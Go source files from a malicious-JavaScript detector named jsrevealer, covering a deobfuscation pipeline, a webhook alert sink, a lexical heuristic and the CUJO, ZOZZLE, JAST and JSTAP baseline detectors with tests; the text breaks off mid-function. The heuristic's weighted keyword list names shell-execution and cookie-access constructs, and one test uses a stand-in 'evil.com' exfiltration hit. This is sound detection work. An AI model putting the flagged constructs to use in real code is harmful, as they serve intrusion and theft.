		wrapperPass{},
		evalPass{},
		deadCodePass{},
	}
}

// PassNames lists the default pass names in order (metric pre-registration
// and documentation).
func PassNames() []string {
	passes := DefaultPasses()
	out := make([]string, len(passes))
	for i, p := range passes {
		out[i] = p.Name()
	}
	return out
}

// Pipeline drives a pass sequence to fixpoint under budget. It is
// stateless between runs and safe for concurrent use.
type Pipeline struct {
	passes    []Pass
	maxRounds int
	maxNodes  int
}

// NewPipeline builds a pipeline from cfg. An empty pass list selects
// DefaultPasses. cfg.Enabled is the caller's concern (the scan engine gates
// on it); the pipeline itself always runs when asked.
func NewPipeline(cfg Config, passes ...Pass) *Pipeline {
	if len(passes) == 0 {
		passes = DefaultPasses()
	}
	p := &Pipeline{passes: passes, maxRounds: cfg.MaxRounds, maxNodes: cfg.MaxNodes}
	if p.maxRounds <= 0 {
		p.maxRounds = DefaultMaxRounds
	}
	if p.maxNodes <= 0 {
		p.maxNodes = DefaultMaxNodes
	}
	return p
}

// Run iterates the passes over prog until a full round changes nothing or a
// budget trips, mutating prog in place. Per-pass change counts and
// durations are recorded into the registry carried by ctx (obs.Default()
// otherwise) and into the returned report.
func (p *Pipeline) Run(ctx context.Context, prog *ast.Program) *Report {
	rep := newReport(p.passes)
	ins := newInstruments(obs.FromContext(ctx), p.passes)
	nodes := ast.Count(prog)
	for round := 0; round < p.maxRounds; round++ {
		rep.Rounds = round + 1
		any := false
		for _, pass := range p.passes {
			if ctx.Err() != nil {
				rep.Truncated = "deadline"
				ins.finish(rep)
				return rep
			}
			if nodes > p.maxNodes {
				rep.Truncated = "nodes"
				ins.finish(rep)
				return rep
			}
			st := rep.stat(pass.Name())
			before := st.Changes
			start := time.Now()
			changed := pass.Run(prog, rep)
			st.Runs++
			st.Duration += time.Since(start)
			ins.observe(pass.Name(), time.Since(start))
			if changed {
				any = true
				if st.Changes == before {
					// The pass changed the tree without noting a count;
					// record at least the fact that it fired.
					st.Changes++
				}
			}
		}
		if !any {
			ins.finish(rep)
			return rep
		}
		// Only eval splicing grows the tree; recount once per round, not
		// per pass.
		nodes = ast.Count(prog)
	}
	rep.Truncated = "rounds"
	ins.finish(rep)
	return rep
}

// Normalize is the source-to-source entry point: parse src under lim, run
// the pipeline, and print the result. When no pass fires, src is returned
// byte-identical (no reformatting noise, empty provenance). A parse failure
// or internal panic returns src unchanged with the error — callers degrade
// to the original bytes, never lose the script.
func (p *Pipeline) Normalize(ctx context.Context, src string, lim parser.Limits) (out string, rep *Report, err error) {
	out = src
	defer func() {
		if r := recover(); r != nil {
			out, err = src, fmt.Errorf("deobfuscate: panic: %v", r)
			obs.FromContext(ctx).Counter(RunsMetric, runsHelp,
				obs.Labels{"result": "error"}).Inc()
		}
	}()
	if lim.Cancel == nil {
		lim.Cancel = ctx.Done()
	}
	prog, perr := parser.ParseWithLimits(src, lim)
	if perr != nil {
		obs.FromContext(ctx).Counter(RunsMetric, runsHelp,
			obs.Labels{"result": "error"}).Inc()
		return src, nil, fmt.Errorf("deobfuscate: parse: %w", perr)
	}
	rep = p.Run(ctx, prog)
	if rep.Total() == 0 {
		return src, rep, nil
	}
	return printer.Print(prog), rep, nil
}
