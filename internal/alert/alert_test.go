package alert

import (
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"jsrevealer/internal/obs"
	"jsrevealer/internal/retry"
	"jsrevealer/internal/rules"
)

// fastRetry removes jitter sleep from tests.
var fastRetry = retry.Policy{Base: time.Millisecond, Cap: time.Millisecond, Rand: func() float64 { return 0 }}

func counterValue(reg *obs.Registry, name, label, value string) float64 {
	for _, p := range reg.Snapshot().Counters {
		if p.Name == name && p.Labels[label] == value {
			return p.Value
		}
	}
	return -1
}

func TestSinkDelivers(t *testing.T) {
	var mu sync.Mutex
	var got []Alert
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		var a Alert
		if err := json.Unmarshal(body, &a); err != nil {
			t.Errorf("bad payload: %v", err)
		}
		if ct := r.Header.Get("Content-Type"); ct != "application/json" {
			t.Errorf("content-type = %q", ct)
		}
		mu.Lock()
		got = append(got, a)
		mu.Unlock()
	}))
	defer srv.Close()

	reg := obs.NewRegistry()
	s, err := Open(Config{URL: srv.URL, Registry: reg, Retry: fastRetry})
	if err != nil {
		t.Fatal(err)
	}
	ok := s.Publish(Alert{
		Name: "evil.js", SHA256: "abc", Verdict: "MALICIOUS",
		Hits: []rules.Hit{{Rule: "exfil", Kind: rules.HitDeny, Severity: rules.SeverityHigh, Evidence: "evil.com"}},
	})
	if !ok {
		t.Fatal("Publish refused")
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	mu.Lock()
	defer mu.Unlock()
	if len(got) != 1 {
		t.Fatalf("deliveries = %d", len(got))
	}
	a := got[0]
	if a.Name != "evil.js" || len(a.Hits) != 1 || a.Hits[0].Rule != "exfil" || a.Time.IsZero() {
		t.Fatalf("payload = %+v", a)
	}
	if v := counterValue(reg, DeliveriesMetric, "result", "sent"); v != 1 {
		t.Fatalf("sent counter = %v", v)
	}
}

func TestSinkRetriesThenSucceeds(t *testing.T) {
	var calls atomic.Int64
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if calls.Add(1) < 3 {
			w.WriteHeader(http.StatusBadGateway)
			return
		}
	}))
	defer srv.Close()
	reg := obs.NewRegistry()
	s, err := Open(Config{URL: srv.URL, Registry: reg, Retry: fastRetry, MaxAttempts: 3})
	if err != nil {
		t.Fatal(err)
	}
	s.Publish(Alert{Name: "a.js"})
	s.Close()
	if n := calls.Load(); n != 3 {
		t.Fatalf("attempts = %d, want 3", n)
	}
	if v := counterValue(reg, DeliveriesMetric, "result", "sent"); v != 1 {
		t.Fatalf("sent counter = %v", v)
	}
}

func TestSinkCountsFailures(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(http.StatusInternalServerError)
	}))
	defer srv.Close()
	reg := obs.NewRegistry()
	s, err := Open(Config{URL: srv.URL, Registry: reg, Retry: fastRetry, MaxAttempts: 2})
	if err != nil {
		t.Fatal(err)
	}
	s.Publish(Alert{Name: "a.js"})
	s.Close()
	if v := counterValue(reg, DeliveriesMetric, "result", "failed"); v != 1 {
		t.Fatalf("failed counter = %v", v)
	}
}

func TestSinkDropsUnderBackpressure(t *testing.T) {
	block := make(chan struct{})
	var closeOnce sync.Once
	unblock := func() { closeOnce.Do(func() { close(block) }) }
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		select {
		case <-block:
		case <-r.Context().Done():
		}
	}))
	defer srv.Close()
	defer unblock()
	reg := obs.NewRegistry()
	s, err := Open(Config{URL: srv.URL, Registry: reg, Retry: fastRetry, Buffer: 1, MaxAttempts: 1, Timeout: 5 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	// One alert occupies the worker, one fills the buffer; everything
	// beyond must drop without blocking.
	deadline := time.Now().Add(2 * time.Second)
	dropped := false
	for time.Now().Before(deadline) && !dropped {
		if !s.Publish(Alert{Name: "x.js"}) {
			dropped = true
		}
	}
	if !dropped {
		t.Fatal("Publish never dropped with a wedged webhook")
	}
	if v := counterValue(reg, DeliveriesMetric, "result", "dropped"); v < 1 {
		t.Fatalf("dropped counter = %v", v)
	}
	unblock()
	s.Close()
}

func TestSinkNilIsNoop(t *testing.T) {
	var s *Sink
	if s.Publish(Alert{Name: "x"}) {
		t.Fatal("nil sink accepted an alert")
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
}

func TestOpenRejectsBadURL(t *testing.T) {
	for _, u := range []string{"", "not-a-url", "ftp://x/y", "http://"} {
		if _, err := Open(Config{URL: u}); err == nil {
			t.Errorf("Open(%q) accepted", u)
		}
	}
}

func TestPublishAfterCloseDrops(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {}))
	defer srv.Close()
	reg := obs.NewRegistry()
	s, err := Open(Config{URL: srv.URL, Registry: reg, Retry: fastRetry})
	if err != nil {
		t.Fatal(err)
	}
	s.Close()
	if s.Publish(Alert{Name: "late.js"}) {
		t.Fatal("Publish after Close accepted")
	}
	if v := counterValue(reg, DeliveriesMetric, "result", "dropped"); v != 1 {
		t.Fatalf("dropped counter = %v", v)
	}
}
