// Package alert pushes rule-hit notifications to an operator webhook. It is
// the "tell someone" end of the rules engine: when a scan trips a deny rule
// or a forcing signature, the scan engine publishes an Alert and moves on —
// delivery happens on a background worker with capped-exponential-backoff
// retries (internal/retry), through a bounded queue that drops and counts
// under backpressure exactly like the audit writer. A slow or down webhook
// endpoint can never stall or backlog the scan hot path.
package alert

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"time"

	"jsrevealer/internal/obs"
	"jsrevealer/internal/retry"
	"jsrevealer/internal/rules"
)

// Metric family emitted by the sink.
const (
	// DeliveriesMetric counts alert outcomes by result: sent (delivered),
	// failed (all attempts exhausted), dropped (queue full or sink closed).
	DeliveriesMetric = "jsrevealer_rules_alert_total"
)

const deliveriesHelp = "Rule alerts by delivery result."

// deliveryResults is the closed label set of DeliveriesMetric.
var deliveryResults = []string{"sent", "failed", "dropped"}

// Defaults for Config zero values.
const (
	// DefaultTimeout bounds one delivery attempt.
	DefaultTimeout = 5 * time.Second
	// DefaultMaxAttempts bounds deliveries per alert.
	DefaultMaxAttempts = 3
	// DefaultBuffer is the bounded alert-queue length.
	DefaultBuffer = 256
)

// Alert is one webhook payload: the flagged script's identity plus the rule
// hits that fired, mirroring the provenance in the audit trail so the two
// can be joined on sha256 or trace_id.
type Alert struct {
	// Time is when the verdict was produced (stamped by Publish if zero).
	Time time.Time `json:"ts"`
	// Name identifies the script (batch record name or file path).
	Name string `json:"name,omitempty"`
	// SHA256 is the hex digest of the raw script bytes.
	SHA256 string `json:"sha256,omitempty"`
	// Verdict is the combined outcome class.
	Verdict string `json:"verdict,omitempty"`
	// Hits are the rule matches that warranted the alert.
	Hits []rules.Hit `json:"rule_hits"`
	// Source names the ingress path (detect|scan|jobs|durable|cli).
	Source string `json:"source,omitempty"`
	// TraceID links the alert to /debug/traces/{id}.
	TraceID string `json:"trace_id,omitempty"`
	// RequestID echoes the caller's X-Request-Id.
	RequestID string `json:"request_id,omitempty"`
}

// Publisher is the scan engine's view of the sink: a non-blocking publish.
// A nil *Sink satisfies it as a no-op, so "alerts disabled" needs no guards.
type Publisher interface {
	// Publish enqueues an alert for delivery, reporting whether it was
	// accepted (false means dropped under backpressure or after Close).
	Publish(a Alert) bool
}

// Config tunes a Sink.
type Config struct {
	// URL is the webhook endpoint; alerts are POSTed to it as JSON.
	// Required, and must be http(s).
	URL string
	// Timeout bounds one delivery attempt; <= 0 means DefaultTimeout.
	Timeout time.Duration
	// MaxAttempts bounds deliveries per alert before it is counted
	// failed; <= 0 means DefaultMaxAttempts.
	MaxAttempts int
	// Buffer bounds the alert queue; <= 0 means DefaultBuffer. When full,
	// Publish drops (and counts) instead of blocking.
	Buffer int
	// Retry is the backoff schedule between attempts; the zero value is
	// the retry package's default (100ms·2^n capped at 30s, full jitter).
	Retry retry.Policy
	// Registry receives the alert metrics; nil means obs.Default().
	Registry *obs.Registry
	// Client overrides the HTTP client (tests); nil builds one from
	// Timeout.
	Client *http.Client
}

// Sink delivers alerts to the configured webhook from a single background
// worker. All methods are safe for concurrent use; Publish never blocks.
// A nil *Sink drops everything silently, so call sites need no guards.
type Sink struct {
	cfg     Config
	client  *http.Client
	ch      chan Alert
	closeCh chan struct{}
	doneCh  chan struct{}

	sent    *obs.Counter
	failed  *obs.Counter
	dropped *obs.Counter
}

// RegisterMetrics pre-creates the alert metric series in reg (zero-valued)
// so the exposition surface is complete before the first alert.
func RegisterMetrics(reg *obs.Registry) {
	for _, r := range deliveryResults {
		reg.Counter(DeliveriesMetric, deliveriesHelp, obs.Labels{"result": r})
	}
}

// Open validates the webhook URL and starts the delivery worker.
func Open(cfg Config) (*Sink, error) {
	u, err := url.Parse(cfg.URL)
	if err != nil || (u.Scheme != "http" && u.Scheme != "https") || u.Host == "" {
		return nil, fmt.Errorf("alert: webhook URL %q is not a valid http(s) URL", cfg.URL)
	}
	if cfg.Timeout <= 0 {
		cfg.Timeout = DefaultTimeout
	}
	if cfg.MaxAttempts <= 0 {
		cfg.MaxAttempts = DefaultMaxAttempts
	}
	if cfg.Buffer <= 0 {
		cfg.Buffer = DefaultBuffer
	}
	reg := cfg.Registry
	if reg == nil {
		reg = obs.Default()
	}
	client := cfg.Client
	if client == nil {
		client = &http.Client{Timeout: cfg.Timeout}
	}
	s := &Sink{
		cfg:     cfg,
		client:  client,
		ch:      make(chan Alert, cfg.Buffer),
		closeCh: make(chan struct{}),
		doneCh:  make(chan struct{}),
		sent:    reg.Counter(DeliveriesMetric, deliveriesHelp, obs.Labels{"result": "sent"}),
		failed:  reg.Counter(DeliveriesMetric, deliveriesHelp, obs.Labels{"result": "failed"}),
		dropped: reg.Counter(DeliveriesMetric, deliveriesHelp, obs.Labels{"result": "dropped"}),
	}
	go s.run()
	return s, nil
}

// Publish implements Publisher: enqueue and return. When the queue is full
// or the sink is closed the alert is dropped and counted — backpressure
// from a dead webhook must never reach the scan path. Publish on a nil sink
// reports false.
func (s *Sink) Publish(a Alert) bool {
	if s == nil {
		return false
	}
	if a.Time.IsZero() {
		a.Time = time.Now()
	}
	select {
	case <-s.closeCh:
		s.dropped.Inc()
		return false
	default:
	}
	select {
	case s.ch <- a:
		return true
	default:
		s.dropped.Inc()
		return false
	}
}

// Close stops the worker after it drains whatever is already queued, waiting
// for in-flight deliveries (bounded by MaxAttempts × Timeout plus backoff).
// Alerts published after Close are dropped. Close on a nil sink is a no-op.
func (s *Sink) Close() error {
	if s == nil {
		return nil
	}
	select {
	case <-s.closeCh:
		<-s.doneCh
		return nil
	default:
	}
	close(s.closeCh)
	<-s.doneCh
	return nil
}

// run is the delivery worker: deliver queued alerts one at a time, drain on
// Close, stop.
func (s *Sink) run() {
	defer close(s.doneCh)
	for {
		select {
		case a := <-s.ch:
			s.deliver(a)
		case <-s.closeCh:
			for {
				select {
				case a := <-s.ch:
					s.deliver(a)
				default:
					return
				}
			}
		}
	}
}

// deliver POSTs one alert, retrying transient failures on the backoff
// schedule. Any 2xx status is success; anything else (including transport
// errors) is retried until MaxAttempts.
func (s *Sink) deliver(a Alert) {
	body, err := json.Marshal(a)
	if err != nil {
		// Alert contains only marshalable fields; unreachable short of
		// memory corruption.
		s.failed.Inc()
		return
	}
	// Deliveries started before Close finish their attempt schedule; the
	// background context keeps retries alive through a drain.
	err = s.cfg.Retry.Do(context.Background(), s.cfg.MaxAttempts, func() error {
		return s.post(body)
	})
	if err != nil {
		s.failed.Inc()
		return
	}
	s.sent.Inc()
}

// post performs one delivery attempt.
func (s *Sink) post(body []byte) error {
	ctx, cancel := context.WithTimeout(context.Background(), s.cfg.Timeout)
	defer cancel()
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, s.cfg.URL, bytes.NewReader(body))
	if err != nil {
		return err
	}
	req.Header.Set("Content-Type", "application/json")
	resp, err := s.client.Do(req)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	if resp.StatusCode < 200 || resp.StatusCode > 299 {
		return fmt.Errorf("alert: webhook returned %s", resp.Status)
	}
	return nil
}
