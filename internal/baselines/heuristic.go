package baselines

import (
	"context"
	"math"
	"strings"

	"jsrevealer/internal/obs"
)

// Heuristic is a parser-free lexical detector. It exists as the graceful
// degradation fallback of the scan engine: when the full JSRevealer
// pipeline cannot process a sample (parse failure, depth limit, timeout,
// oversized input), the heuristic still yields a verdict from a single
// bounded pass over the raw bytes. Its signals are the classic
// drive-by-download tells the ZOZZLE and JSTAP literature relies on:
// dynamic code generation, decoder loops, environment fingerprinting, and
// high-entropy encoded blobs.
type Heuristic struct {
	// Threshold is the score at or above which input is called malicious.
	Threshold float64
	// MaxBytes caps how much of the input is inspected; <= 0 means
	// DefaultHeuristicBytes.
	MaxBytes int
}

// DefaultHeuristicBytes bounds the heuristic's work per sample.
const DefaultHeuristicBytes = 1 << 20

// NewHeuristic returns the heuristic with its tuned default threshold.
func NewHeuristic() *Heuristic {
	return &Heuristic{Threshold: 3.0}
}

// Name implements the common detector naming convention.
func (*Heuristic) Name() string { return "LexicalHeuristic" }

// markers are suspicious substrings with per-occurrence weights; counts are
// capped so a single repeated token cannot dominate unboundedly.
var markers = []struct {
	text   string
	weight float64
}{
	{"eval(", 1.5},
	{"unescape(", 1.5},
	{"String.fromCharCode", 1.5},
	{"fromCharCode", 0.5},
	{"new Function", 1.5},
	{"ActiveXObject", 2.0},
	{"WScript.", 2.0},
	{"document.write(", 1.0},
	{"document.cookie", 1.0},
	{"charCodeAt", 0.5},
	{"createElement(\"script\")", 1.0},
	{"createElement('script')", 1.0},
	{".shellexecute", 2.5},
	{"%u", 0.25},
	{"\\x", 0.05},
}

// Score computes the suspicion score of src in one bounded pass.
func (h *Heuristic) Score(src string) float64 {
	maxBytes := h.MaxBytes
	if maxBytes <= 0 {
		maxBytes = DefaultHeuristicBytes
	}
	if len(src) > maxBytes {
		src = src[:maxBytes]
	}
	lower := strings.ToLower(src)

	score := 0.0
	for _, m := range markers {
		needle := m.text
		if needle != "%u" && needle != "\\x" {
			needle = strings.ToLower(needle)
		}
		n := strings.Count(lower, needle)
		if n > 4 {
			n = 4
		}
		score += float64(n) * m.weight
	}

	// Dense encoded payloads: high byte entropy over a prefix window is a
	// strong packed/encoded-blob signal that survives any obfuscator.
	if len(src) >= 512 {
		window := src
		if len(window) > 4096 {
			window = window[:4096]
		}
		if byteEntropy(window) > 5.6 {
			score += 1.5
		}
	}
	return score
}

// Detect classifies src; true means malicious. It never returns an error:
// the heuristic is the last line of degradation and must not fail.
func (h *Heuristic) Detect(src string) (bool, error) {
	return h.Score(src) >= h.Threshold, nil
}

// DetectCtx implements the scan engine's context-aware classifier shape.
// The pass is bounded, so the context is consulted only for its span scope
// and metrics registry.
func (h *Heuristic) DetectCtx(ctx context.Context, src string) (bool, error) {
	_, sp := obs.StartSpan(ctx, "heuristic")
	defer sp.End()
	return h.Detect(src)
}

// byteEntropy returns the Shannon entropy of s in bits per byte.
func byteEntropy(s string) float64 {
	var counts [256]int
	for i := 0; i < len(s); i++ {
		counts[s[i]]++
	}
	total := float64(len(s))
	e := 0.0
	for _, c := range counts {
		if c == 0 {
			continue
		}
		p := float64(c) / total
		e -= p * math.Log2(p)
	}
	return e
}
