// Package baselines implements the four detectors the paper compares
// against (Section IV-A3):
//
//   - CUJO — token n-grams from lexical analysis (static part), linear SVM.
//   - ZOZZLE — hierarchical (AST-context, text) features, naive Bayes.
//   - JAST — n-grams of AST syntactic units, random forest.
//   - JSTAP — n-grams over the PDG (control + data flow), random forest.
//
// Each baseline is an Extractor producing a hashed feature vector plus a
// matching classifier, so all five detectors (including JSRevealer) can be
// driven through one evaluation harness.
package baselines

import (
	"errors"
	"hash/fnv"
	"math"

	"jsrevealer/internal/core"
	"jsrevealer/internal/ml/classify"
)

// FeatureDim is the hashed feature-vector width shared by all baselines.
const FeatureDim = 4096

// Extractor turns a script into a fixed-width feature vector.
type Extractor interface {
	// Name identifies the baseline.
	Name() string
	// Features extracts the hashed feature vector of src.
	Features(src string) ([]float64, error)
}

// Detector is a trained baseline.
type Detector struct {
	ex  Extractor
	clf classify.Classifier
	// parseFailures counts unparseable training scripts.
	parseFailures int
}

// Name returns the baseline's name.
func (d *Detector) Name() string { return d.ex.Name() }

// ParseFailures reports how many training scripts failed feature extraction.
func (d *Detector) ParseFailures() int { return d.parseFailures }

// Train fits the baseline's classifier on the samples.
func Train(ex Extractor, trainer classify.Trainer, samples []core.Sample) (*Detector, error) {
	if trainer == nil {
		return nil, errors.New("baselines: nil trainer")
	}
	d := &Detector{ex: ex}
	var feats [][]float64
	var labels []bool
	for _, s := range samples {
		f, err := ex.Features(s.Source)
		if err != nil {
			d.parseFailures++
			continue
		}
		feats = append(feats, f)
		labels = append(labels, s.Malicious)
	}
	if len(feats) == 0 {
		return nil, errors.New("baselines: no training sample extracted")
	}
	clf, err := trainer.Train(feats, labels)
	if err != nil {
		return nil, err
	}
	d.clf = clf
	return d, nil
}

// Detect classifies a script; true means malicious.
func (d *Detector) Detect(src string) (bool, error) {
	f, err := d.ex.Features(src)
	if err != nil {
		return false, err
	}
	return d.clf.Predict(f), nil
}

// NewCUJO builds the CUJO baseline with its published classifier (SVM).
func NewCUJO(seed int64) (Extractor, classify.Trainer) {
	return &CUJOExtractor{Q: 3}, &classify.LinearSVMTrainer{Seed: seed}
}

// NewZOZZLE builds the ZOZZLE baseline with naive Bayes.
func NewZOZZLE(seed int64) (Extractor, classify.Trainer) {
	return &ZOZZLEExtractor{}, &classify.GaussianNBTrainer{}
}

// NewJAST builds the JAST baseline with a random forest.
func NewJAST(seed int64) (Extractor, classify.Trainer) {
	return &JASTExtractor{N: 4}, &classify.RandomForestTrainer{Seed: seed}
}

// NewJSTAP builds the JSTAP (PDG n-grams) baseline with a random forest.
func NewJSTAP(seed int64) (Extractor, classify.Trainer) {
	return &JSTAPExtractor{N: 4}, &classify.RandomForestTrainer{Seed: seed}
}

// hashedBag accumulates string features into a hashed count vector.
type hashedBag struct {
	v []float64
}

func newHashedBag() *hashedBag { return &hashedBag{v: make([]float64, FeatureDim)} }

func (b *hashedBag) add(feature string) {
	h := fnv.New64a()
	h.Write([]byte(feature))
	b.v[h.Sum64()%FeatureDim]++
}

// vector returns the sublinearly scaled, L2-normalized feature vector.
func (b *hashedBag) vector() []float64 {
	norm := 0.0
	for i, c := range b.v {
		if c > 0 {
			b.v[i] = 1 + math.Log(c)
		}
		norm += b.v[i] * b.v[i]
	}
	if norm > 0 {
		norm = math.Sqrt(norm)
		for i := range b.v {
			b.v[i] /= norm
		}
	}
	return b.v
}
