package baselines

import (
	"testing"

	"jsrevealer/internal/core"
	"jsrevealer/internal/corpus"
	"jsrevealer/internal/ml/classify"
)

func trainTestSplit(t *testing.T, n int, seed int64) ([]core.Sample, []corpus.Sample) {
	t.Helper()
	samples := corpus.Generate(corpus.Config{Benign: n, Malicious: n, Seed: seed})
	var train []core.Sample
	var test []corpus.Sample
	for i, s := range samples {
		if i%4 == 3 {
			test = append(test, s)
		} else {
			train = append(train, core.Sample{Source: s.Source, Malicious: s.Malicious})
		}
	}
	return train, test
}

func allBaselines(seed int64) []func(int64) (Extractor, classify.Trainer) {
	return []func(int64) (Extractor, classify.Trainer){
		NewCUJO, NewZOZZLE, NewJAST, NewJSTAP,
	}
}

func TestExtractorsProduceFixedWidthVectors(t *testing.T) {
	src := "var a = 1;\nif (a) { go(a, \"str\"); }"
	for _, mk := range allBaselines(1) {
		ex, _ := mk(1)
		v, err := ex.Features(src)
		if err != nil {
			t.Fatalf("%s: %v", ex.Name(), err)
		}
		if len(v) != FeatureDim {
			t.Errorf("%s vector width = %d, want %d", ex.Name(), len(v), FeatureDim)
		}
		nonzero := 0
		for _, x := range v {
			if x != 0 {
				nonzero++
			}
		}
		if nonzero == 0 {
			t.Errorf("%s produced an all-zero vector", ex.Name())
		}
	}
}

func TestVectorsL2Normalized(t *testing.T) {
	src := "function f(x) { return x * 2 + 1; }\nf(3);"
	for _, mk := range allBaselines(1) {
		ex, _ := mk(1)
		v, err := ex.Features(src)
		if err != nil {
			t.Fatal(err)
		}
		norm := 0.0
		for _, x := range v {
			norm += x * x
		}
		if norm < 0.99 || norm > 1.01 {
			t.Errorf("%s vector norm² = %v, want 1", ex.Name(), norm)
		}
	}
}

func TestASTExtractorsRejectBadInput(t *testing.T) {
	for _, mk := range []func(int64) (Extractor, classify.Trainer){NewZOZZLE, NewJAST, NewJSTAP} {
		ex, _ := mk(1)
		if _, err := ex.Features("var = = ;"); err == nil {
			t.Errorf("%s accepted invalid input", ex.Name())
		}
	}
	// CUJO is lexical: it only rejects lexically invalid input.
	cujo, _ := NewCUJO(1)
	if _, err := cujo.Features(`"unterminated`); err == nil {
		t.Error("CUJO accepted lexically invalid input")
	}
}

func TestBaselinesLearnTheCorpus(t *testing.T) {
	if testing.Short() {
		t.Skip("corpus training in -short mode")
	}
	train, test := trainTestSplit(t, 60, 11)
	for _, mk := range allBaselines(5) {
		ex, tr := mk(5)
		det, err := Train(ex, tr, train)
		if err != nil {
			t.Fatalf("%s: %v", ex.Name(), err)
		}
		correct := 0
		for _, s := range test {
			pred, err := det.Detect(s.Source)
			if err != nil {
				continue
			}
			if pred == s.Malicious {
				correct++
			}
		}
		if acc := float64(correct) / float64(len(test)); acc < 0.7 {
			t.Errorf("%s accuracy = %.2f on unobfuscated corpus", det.Name(), acc)
		}
	}
}

func TestCUJORenamingInvariance(t *testing.T) {
	// CUJO abstracts identifiers, so renaming must not change its features.
	cujo, _ := NewCUJO(1)
	v1, err := cujo.Features("var alpha = 1; use(alpha);")
	if err != nil {
		t.Fatal(err)
	}
	v2, err := cujo.Features("var omega = 1; use(omega);")
	if err != nil {
		t.Fatal(err)
	}
	for i := range v1 {
		if v1[i] != v2[i] {
			t.Fatal("CUJO features changed under pure renaming")
		}
	}
}

func TestJASTStructureSensitivity(t *testing.T) {
	jast, _ := NewJAST(1)
	v1, err := jast.Features("if (a) { b(); }")
	if err != nil {
		t.Fatal(err)
	}
	v2, err := jast.Features("while (a) { b(); }")
	if err != nil {
		t.Fatal(err)
	}
	same := true
	for i := range v1 {
		if v1[i] != v2[i] {
			same = false
			break
		}
	}
	if same {
		t.Error("JAST cannot distinguish if from while")
	}
}

func TestZOZZLEContextSensitivity(t *testing.T) {
	zozzle, _ := NewZOZZLE(1)
	v1, err := zozzle.Features("if (evil) { x = 1; }")
	if err != nil {
		t.Fatal(err)
	}
	v2, err := zozzle.Features("while (evil) { x = 1; }")
	if err != nil {
		t.Fatal(err)
	}
	same := true
	for i := range v1 {
		if v1[i] != v2[i] {
			same = false
			break
		}
	}
	if same {
		t.Error("ZOZZLE context labels not differentiating loop from branch")
	}
}

func TestTrainRejectsNilTrainer(t *testing.T) {
	ex, _ := NewJAST(1)
	if _, err := Train(ex, nil, nil); err == nil {
		t.Error("nil trainer accepted")
	}
}

func TestTrainRejectsAllUnparseable(t *testing.T) {
	ex, tr := NewJAST(1)
	bad := []core.Sample{{Source: "var = ;", Malicious: false}}
	if _, err := Train(ex, tr, bad); err == nil {
		t.Error("training on unparseable corpus should fail")
	}
}

func TestParseFailuresCounted(t *testing.T) {
	ex, tr := NewJAST(1)
	samples := []core.Sample{
		{Source: "var ok = 1;", Malicious: false},
		{Source: "var broken = = ;", Malicious: true},
		{Source: "var fine = 2;", Malicious: true},
	}
	det, err := Train(ex, tr, samples)
	if err != nil {
		t.Fatal(err)
	}
	if det.ParseFailures() != 1 {
		t.Errorf("parse failures = %d, want 1", det.ParseFailures())
	}
}
