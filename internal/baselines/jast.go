package baselines

import (
	"strings"

	"jsrevealer/internal/js/ast"
	"jsrevealer/internal/js/parser"
)

// JASTExtractor reproduces JAST (Fass et al.): the AST is linearized by a
// depth-first traversal of syntactic-unit names and sliding n-grams over
// the traversal become the features (the published system uses n = 4 and a
// random forest).
type JASTExtractor struct {
	// N is the n-gram length; 0 means 4.
	N int
}

// Name implements Extractor.
func (*JASTExtractor) Name() string { return "JAST" }

// Features implements Extractor.
func (e *JASTExtractor) Features(src string) ([]float64, error) {
	n := e.N
	if n <= 0 {
		n = 4
	}
	prog, err := parser.Parse(src)
	if err != nil {
		return nil, err
	}
	var units []string
	ast.Walk(prog, func(node ast.Node) bool {
		units = append(units, node.Type())
		return true
	})
	bag := newHashedBag()
	for i := 0; i+n <= len(units); i++ {
		bag.add(strings.Join(units[i:i+n], ">"))
	}
	return bag.vector(), nil
}
