package baselines

import (
	"jsrevealer/internal/js/ast"
	"jsrevealer/internal/js/parser"
)

// ZOZZLEExtractor reproduces ZOZZLE (Curtsinger et al.): features are pairs
// of an AST context label and the text of the node observed there —
// identifiers and string literals annotated with whether they occur in a
// condition, a loop, a function body, a call, and so on. The original uses
// naive Bayes over these hierarchical features.
type ZOZZLEExtractor struct{}

// Name implements Extractor.
func (*ZOZZLEExtractor) Name() string { return "ZOZZLE" }

// Features implements Extractor.
func (e *ZOZZLEExtractor) Features(src string) ([]float64, error) {
	prog, err := parser.Parse(src)
	if err != nil {
		return nil, err
	}
	bag := newHashedBag()
	collectZozzle(prog, "script", bag)
	return bag.vector(), nil
}

// collectZozzle walks the AST, tracking the hierarchical context label and
// emitting (context, text) features for textual leaves.
func collectZozzle(n ast.Node, context string, bag *hashedBag) {
	if n == nil {
		return
	}
	emit := func(text string) {
		bag.add(context + ":" + text)
	}
	switch v := n.(type) {
	case *ast.Identifier:
		emit(v.Name)
		return
	case *ast.Literal:
		if v.Kind == ast.LiteralString {
			s := v.StrVal
			if len(s) > 40 {
				s = s[:40]
			}
			emit(s)
		}
		return
	case *ast.IfStatement:
		collectZozzle(v.Test, "if-cond", bag)
		collectZozzle(v.Consequent, "if-then", bag)
		collectZozzle(v.Alternate, "if-else", bag)
		return
	case *ast.ForStatement:
		if v.Init != nil {
			collectZozzle(v.Init, "loop-init", bag)
		}
		collectZozzle(v.Test, "loop-cond", bag)
		collectZozzle(v.Update, "loop-update", bag)
		collectZozzle(v.Body, "loop-body", bag)
		return
	case *ast.WhileStatement:
		collectZozzle(v.Test, "loop-cond", bag)
		collectZozzle(v.Body, "loop-body", bag)
		return
	case *ast.DoWhileStatement:
		collectZozzle(v.Body, "loop-body", bag)
		collectZozzle(v.Test, "loop-cond", bag)
		return
	case *ast.ForInStatement:
		collectZozzle(v.Left, "loop-init", bag)
